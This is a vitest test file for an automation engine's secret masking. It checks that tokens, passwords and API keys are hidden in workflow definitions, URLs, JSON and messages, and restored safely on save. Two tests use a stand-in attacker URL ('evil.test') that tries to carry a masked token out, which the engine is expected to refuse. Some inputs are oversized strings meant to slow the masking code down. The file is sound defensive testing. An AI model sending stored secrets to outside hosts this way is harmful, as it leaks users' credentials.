import { describe, expect, test } from 'vitest'
import type { AutomationNode } from '../../../src/contract/automations/automation-node.ts'
import { maskDefinition, maskText, maskValue, unmaskDefinition } from '../../../src/engine/definition/mask.ts'
import { findConnectionSecrets, findSecrets, hideSecrets } from '../../../src/engine/definition/secrets.ts'
import { validateDefinition } from '../../../src/engine/definition/validate-definition.ts'
import { code, http, webhook } from '../../support/automation-nodes.ts'
import { shortestMs } from '../../support/timing.ts'

const hidden = maskText
async function treeOf(...steps: AutomationNode[]): Promise<AutomationNode> {
  const examined = await validateDefinition({ trigger: webhook(), steps })
  if (!examined.ok) throw new Error(JSON.stringify(examined.problems))
  return examined.definition
}
const inputOf = (tree: AutomationNode): unknown => tree.nextAction?.settings?.input

test.each<[object, object]>([
  [{ Authorization: 'Bearer k-123' }, { Authorization: hidden }],
  [{ headers: { 'X-Api-Key': 'abc', Accept: 'text/html' } }, { headers: { 'X-Api-Key': hidden, Accept: 'text/html' } }],
  [
    { apiKey: 'abc', access_token: 'x', password: 'p', client_secret: 's', Cookie: 'a=b' },
    { apiKey: hidden, access_token: hidden, password: hidden, client_secret: hidden, Cookie: hidden },
  ],
  [
    { authType: 'BASIC', authFields: { username: 'ada', password: 'x' } },
    { authType: 'BASIC', authFields: { username: hidden, password: hidden } },
  ],
  [
    { note: 'Bearer abc123', id: 'sk-live-0123456789abcdefgh', hash: 'a'.repeat(32) },
    { note: hidden, id: hidden, hash: hidden },
  ],
  [
    {
      list: [
        { name: 'Authorization', value: 'x' },
        { name: 'Accept', value: 'y' },
      ],
    },
    {
      list: [
        { name: 'Authorization', value: hidden },
        { name: 'Accept', value: 'y' },
      ],
    },
  ],
  [{ url: 'https://a.test/x?api_key=abc&page=2' }, { url: `https://a.test/x?api_key=${hidden}&page=2` }],
  [
    { rows: ['password=hunter2', 'user=ada&client_secret=abc&page=2'], filter: 'a=b', text: 'password=a b' },
    { rows: [`password=${hidden}`, `user=ada&client_secret=${hidden}&page=2`], filter: 'a=b', text: 'password=a b' },
  ],
  [{ url: 'https://ada:pw@a.test/' }, { url: `https://${hidden}@a.test/` }],
  [{ data: '{"token": "abc", "n": 1}' }, { data: `{"token": "${hidden}", "n": 1}` }],
  [
    {
      'X-RapidAPI-Key': 'abc',
      clientSecret: 's',
      REFRESH_TOKEN: 'r',
      smtpPass: 'p',
      vendorKey: 'k9Qd82hf7Zs1aa',
      cookies: ['a=b'],
    },
    {
      'X-RapidAPI-Key': hidden,
      clientSecret: hidden,
      REFRESH_TOKEN: hidden,
      smtpPass: hidden,
      vendorKey: hidden,
      cookies: [hidden],
    },
  ],
  [{ credentials: { user: 'ada', code: 'x' } }, { credentials: { user: hidden, code: hidden } }],
  [
    { note: 'Basic YWRhOnB3', other: 'Token 9944b09199c62bcf' },
    { note: hidden, other: hidden },
  ],
  [{ url: 'https://a.test/x?key=AB12cd34EF56gh' }, { url: `https://a.test/x?key=${hidden}` }],
  [
    { password: 1234, max_tokens: 100 },
    { password: hidden, max_tokens: 100 },
  ],
])('%j is shown as %j', (given, shown) => {
  expect(maskValue(given)).toEqual(shown)
  expect(maskValue(maskValue(given))).toEqual(shown)
})

test.each<object>([
  { Authorization: 'Bearer {{trigger.body.token}}', token: "{{connections['mail'].token}}" },
  { key: 'counter', store_scope: 'FLOW', url: 'https://a.test/{{trigger.body.id}}?page=1', token: '' },
  { text: 'The token is in the mail', api_key_header: 'X-Api-Key', author: 'Ada' },
  {
    maxOutputTokens: 2000,
    max_tokens: '512',
    conversationKey: 'customer',
    rowPrimaryKey: 'id',
    passwordField: 'pw',
    tokenType: 'bearer',
  },
  {
    propertySettings: {
      authFields: { type: 'MANUAL' },
      apiKey: { type: 'DYNAMIC', schema: {} },
      conversationKey: { type: 'MANUAL' },
    },
  },
  { schema: { properties: { token: { type: 'string', description: 'What the caller was given' } } } },
  {
    plan: 'Basic plan',
    note: 'Token economics in short',
    signature: 'Best regards, Ada',
    auth: "{{connections['mail']}}",
  },
  { database_id: '1429989fe8ac4effbc8f57f56486db54', fileIds: ['d41d8cd98f00b204e9800998ecf8427e'] },
])('%j hides nothing', (given) => {
  expect(maskValue(given)).toEqual(given)
})

test('an expression beside a secret does not show it', () => {
  expect(maskValue({ Authorization: 'Bearer abc{{trigger.x}}' })).toEqual({ Authorization: hidden })
})

describe('a definition read masked and sent back', () => {
  const secret = {
    headers: { Authorization: 'Bearer k-123' },
    url: 'https://a.test/?token=t-9',
    authType: 'BASIC',
    authFields: { username: 'u', password: 'p' },
  }

  test('keeps its secrets and other changes', async () => {
    const stored = await treeOf(http(secret), code('export const code = () => "Bearer keep"'))
    const shown = maskDefinition(stored)
    expect(JSON.stringify(shown)).not.toMatch(/k-123|t-9/)
    expect(JSON.stringify(shown)).toContain('Bearer keep')
    const edited = structuredClone(shown)
    ;(inputOf(edited) as Record<string, unknown>).timeout = 5
    const { definition, problems } = unmaskDefinition(edited, stored)
    expect(problems.all).toEqual([])
    expect(inputOf(definition)).toEqual({ method: 'GET', ...secret, timeout: 5 })
    expect(JSON.stringify(stored)).toContain('k-123')
  })

  test('keeps values that an older copy masked and that are no longer masked', async () => {
    const stored = await treeOf(http({ maxOutputTokens: 2000 }))
    const sent = await treeOf(http({ maxOutputTokens: hidden }))
    const { definition, problems } = unmaskDefinition(sent, stored)
    expect(problems.all).toEqual([])
    expect(inputOf(definition)).toMatchObject({ maxOutputTokens: 2000 })
  })

  test('accepts a new secret in place of the mask, and moves with its step', async () => {
    const stored = await treeOf(http(secret), code())
    const shown = maskDefinition(stored)
    const [first, second] = [shown.nextAction as AutomationNode, shown.nextAction?.nextAction as AutomationNode]
    const moved: AutomationNode = { ...shown, nextAction: { ...second, nextAction: { ...first, nextAction: null } } }
    const { definition, problems } = unmaskDefinition(moved, stored)
    expect(problems.all).toEqual([])
    expect(definition.nextAction?.nextAction?.settings?.input).toMatchObject(secret)
  })

  test('is refused if a mask has no stored value: in a new step, in another place, without a stored definition', async () => {
    const stored = await treeOf(http({ headers: { Authorization: 'Bearer k-123' } }))
    const sent = await treeOf(
      http({ headers: { 'X-Other': hidden } }),
      http({ url: `https://evil.test/?token=${hidden}` }, { name: 'step_9' }),
    )
    expect(unmaskDefinition(sent, stored).problems.all).toMatchObject([
      { step: 'step_1', path: 'settings.input.headers.X-Other' },
      { step: 'step_9', path: 'settings.input.url' },
    ])
    expect(unmaskDefinition(maskDefinition(stored), null).problems.all).toHaveLength(1)
  })
})

test('a secret inside a URL is not sent elsewhere: the text around its mask must be unchanged', async () => {
  const stored = await treeOf(http({ url: 'https://a.test/?token=t-9' }))
  const sent = await treeOf(http({ url: `https://evil.test/?token=${hidden}` }))
  const { definition, problems } = unmaskDefinition(sent, stored)
  expect(problems.all).toMatchObject([{ step: 'step_1', path: 'settings.input.url' }])
  expect(JSON.stringify(definition)).not.toContain('t-9')
})

test('secrets of a definition are masked wherever a server repeats them', async () => {
  const tree = await treeOf(http({ headers: { Authorization: 'Bearer k-123456' } }))
  expect(hideSecrets('you sent k-123456', findSecrets(tree))).toBe(`you sent ${hidden}`)
})

test('secrets are masked in a URL, in JSON, in an authorization header, and in a text that was cut inside one', async () => {
  const input = {
    url: 'https://a.test/x?api_key=p-98/7654',
    authType: 'BASIC',
    authFields: { username: 'ada', password: 'pass "word"' },
  }
  const secrets = findSecrets(await treeOf(http(input)))
  const said = (text: string): string => hideSecrets(text, secrets)
  expect(said('no p-98/7654 here')).toBe(`no ${hidden} here`)
  expect(said('at ?k=p-98%2F7654&x')).toBe(`at ?k=${hidden}&x`)
  expect(said(JSON.stringify({ it: 'pass "word"' }))).toBe(`{"it":"${hidden}"}`)
  expect(said(`Basic ${btoa('ada:pass "word"')}`)).toBe(`Basic ${hidden}`)
  expect(said('the password is pass "wo…')).toBe(`the password is ${hidden}`)
  expect(said('compass and pass')).toBe('compass and pass')
})

test('the credentials of a connection are masked, and its address is not', () => {
  expect(findConnectionSecrets({ host: 'smtp.example', user: 'ada', password: 'p-987654' })).toEqual(['p-987654'])
  expect(findConnectionSecrets('p-987654')).toEqual(['p-987654'])
})

test.each([
  ['{"token": "abc", "name": "Ada"}', `{"token": "${hidden}", "name": "Ada"}`],
  ['{"size": 5" pipe, "token": "abc"}', `{"size": 5" pipe, "token": "${hidden}"}`],
  ['{"token"\n:\n"a\\"b", "password":"x"', `{"token"\n:\n"${hidden}", "password":"${hidden}"`],
  ['{"token": "open', '{"token": "open'],
  ['["token", "abc"]', '["token", "abc"]'],
])('secrets are masked in the body %j, also in invalid JSON', (text, expected) => {
  expect(maskValue({ text })).toEqual({ text: expected })
})

test('hostile texts are masked quickly', async () => {
  const texts = [
    `${' '.repeat(500_000)}x`,
    `https://${'a'.repeat(500_000)}`,
    `{${'"a" '.repeat(100_000)}`,
    '{{'.repeat(250_000),
    `Bearer ${' '.repeat(500_000)}`,
    '?a'.repeat(250_000),
    `["${'\\"'.repeat(250_000)}`,
  ]
  const maskAll = (): void => {
    for (const text of texts) maskValue({ text, token: text })
  }
  expect(await shortestMs(maskAll, 2000)).toBeLessThan(2000)
})
